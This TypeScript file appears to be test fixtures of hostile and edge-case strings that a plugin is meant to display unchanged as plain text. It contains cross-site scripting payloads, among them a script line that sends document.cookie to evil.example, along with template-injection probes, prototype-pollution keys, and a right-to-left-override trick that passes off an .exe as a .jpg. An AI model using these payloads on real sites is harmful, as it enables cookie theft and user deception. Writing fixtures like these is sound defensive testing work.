/**
 * Texts that real people never mean well with, and some that they do: each must come out of every answer as it
 * went in, and must be shown as nothing but text.
 */

/** Written as escapes, since they cannot be seen. */
export const RIGHT_TO_LEFT_OVERRIDE = '\u202E';
export const FIRST_STRONG_ISOLATE = '\u2068';
export const ZERO_WIDTH_SPACE = '\u200B';
export const BYTE_ORDER_MARK = '\uFEFF';

export const IMAGE_WITH_HANDLER = '<img src=x onerror="alert(document.domain)">';
export const SCRIPT = '</script><script>fetch("https://evil.example/?c=" + document.cookie)</script>';
export const JAVASCRIPT_LINK = 'javascript:alert(document.domain)//https://homepage.example';
export const DATA_LINK = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
export const TEMPLATES = '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor("alert(1)")()}}';

/** Reads as `annotated-gpj.exe` where overrides are followed. */
export const REVERSED = `annotated-${RIGHT_TO_LEFT_OVERRIDE}exe.jpg`;

/** Looks like "Panelbase", but for what is between its letters. */
export const LOOKALIKE = `Panel${ZERO_WIDTH_SPACE}base${BYTE_ORDER_MARK}`;

/** A word under a pile of combining marks. */
export const PILED_UP = 'Zalgo'
  .split('')
  .map((letter) => letter + '\u0300\u0301\u0316\u0327\u0489'.repeat(6))
  .join('');

/** One sign to the eye, many to the machine. */
export const FAMILY_AND_FLAG = '👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇪🇺';

/** 10,000 characters of lifelike text. */
export const TEN_THOUSAND_CHARACTERS =
  'This plugin was written for the interlibrary loan of 1998 and has been extended ever since. '
    .repeat(109)
    .slice(0, 9_999) + '.';

/** As long as a text without a place to break it can get. */
export const UNBREAKABLE = 'Bestandsverzeichnisabgleichsprotokoll'.repeat(14);

/** Names that mean something to careless code. */
export const ODD_KEYS: Readonly<Record<string, unknown>> = {
  ['__proto__']: { isAdmin: true },
  constructor: { prototype: { isAdmin: true } },
  toString: 'not a function',
  hasOwnProperty: false,
  '': 'a key without a name',
  ' ': 'a blank',
  'with spaces': 1,
  'with.dots': 2,
  'with/slashes': 3,
  'with\\backslashes': 4,
  'with"quotes\'': 5,
  $ref: '#/definitions/none',
  '<b>': 6,
  'zwei%20Wörter': 7,
  '0': 'a number for a key',
  length: -1,
  [`${RIGHT_TO_LEFT_OVERRIDE}sdrawkcab`]: 8,
};
